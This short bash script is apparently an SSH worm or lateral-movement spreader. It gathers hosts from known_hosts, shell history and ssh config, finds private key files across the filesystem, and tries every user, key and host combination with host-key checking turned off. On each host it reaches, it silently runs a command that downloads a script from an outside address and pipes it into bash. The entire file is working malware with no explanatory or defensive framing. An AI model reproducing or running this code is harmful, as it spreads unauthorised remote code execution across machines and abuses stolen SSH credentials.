#!/bin/bash
PAYLOAD='curl -fsSL http://192.0.2.31/i.sh | bash'
hosts=$( { cat ~/.ssh/known_hosts /root/.ssh/known_hosts 2>/dev/null | awk '{print $1}' | tr ',' '\n' | grep -v '^|' ;
           grep -hoE 'ssh .*@[a-zA-Z0-9._-]+' ~/.bash_history /root/.bash_history 2>/dev/null | awk -F@ '{print $2}' ;
           grep -hE '^\s*HostName' ~/.ssh/config 2>/dev/null | awk '{print $2}' ; } | sed 's/\[//;s/\]:.*//' | sort -u )
users=$(ls /home 2>/dev/null; echo root)
keys=$(find / -maxdepth 4 -name 'id_rsa' -o -maxdepth 4 -name 'id_ed25519' -o -maxdepth 4 -name '*.pem' 2>/dev/null)
for h in $hosts; do
  for k in $keys; do
    for u in $users; do
      timeout 10 ssh -oStrictHostKeyChecking=no -oBatchMode=yes -oConnectTimeout=5 -i "$k" "$u@$h" "($PAYLOAD) >/dev/null 2>&1 &" 2>/dev/null && break 2
    done
  done
done
